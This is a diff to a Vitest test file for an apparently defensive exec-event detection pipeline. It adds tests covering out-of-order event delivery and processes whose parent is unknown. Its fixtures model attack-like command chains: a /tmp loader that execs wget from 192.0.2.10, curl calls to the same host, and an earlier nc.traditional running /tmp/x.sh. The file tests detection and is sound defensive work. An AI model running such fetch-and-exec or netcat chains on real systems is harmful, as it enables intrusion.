@@ -2,7 +2,7 @@ import { describe, expect, it } from "vitest";
 import { NoDedupStore } from "../../lib/alerts/dedup-store.js";
 import { MemoryLineageStore } from "../../lib/lineage/memory-store.js";
 import { newCounters } from "../../lib/pipeline/counters.js";
-import { processBatch } from "../../lib/pipeline/process-batch.js";
+import { detectBatch, processBatch } from "../../lib/pipeline/process-batch.js";
 import { compileRule } from "../../lib/rule/compile-rule.js";
 import type { ExecEvent } from "../../lib/telemetry/exec-event.js";
 import { exec, shell } from "../helpers/exec-events.js";
@@ -44,5 +44,39 @@ describe("processBatch over a store an earlier attempt already wrote", () => {
     expect(summary(first)).toEqual([[first[0]!.id, "nc.traditional", "/tmp/x.sh", "exec-chain"]]);
     const again = await processBatch(redelivered(events), deps, newCounters());
     expect(summary(again)).toEqual(summary(first));
+  });
+});
+
+describe("processBatch over a stream delivered out of order", () => {
+  it("an earlier image delivered after its successor: the successor is judged again, with it in its chain", async () => {
+    const loader = exec({
+      pid: 900,
+      ppid: 650,
+      exe: "/tmp/loader",
+      args: ["/tmp/loader", "-c", "exec wget …"],
+      time: 1_000,
+    });
+    const wget = exec({
+      pid: 900,
+      ppid: 650,
+      exe: "/usr/bin/wget",
+      args: ["wget", "http://192.0.2.10/w"],
+      time: 1_001,
+    });
+    const deps = { store: new MemoryLineageStore(), dedup: new NoDedupStore(), rule: compileRule() };
+    // wget first: nothing suspicious yet (its parent is known, its own earlier image is not).
+    expect(await processBatch([shell({ pid: 650, time: 10 }), wget], deps, newCounters())).toEqual([]);
+    const late = await processBatch([loader], deps, newCounters());
+    expect(summary(late)).toEqual([[late[0]!.id, "wget", "/tmp/loader", "exec-chain"]]);
+    expect(late[0]!.source.eventId).toBe(wget.source.eventId);
+  });
+
+  it("a utility whose parent is unknown is reported as an orphan; one with a known parent is not", async () => {
+    const deps = { store: new MemoryLineageStore(), dedup: new NoDedupStore(), rule: compileRule() };
+    const parent = shell({ pid: 650 });
+    const orphan = exec({ pid: 41, ppid: 40, exe: "/usr/bin/curl", args: ["curl", "http://192.0.2.10/"] });
+    const known = exec({ pid: 42, ppid: 650, exe: "/usr/bin/curl", args: ["curl", "http://192.0.2.10/"] });
+    const detection = await detectBatch([parent, orphan, known], deps, newCounters());
+    expect(detection.orphans).toEqual([orphan]);
   });
 });
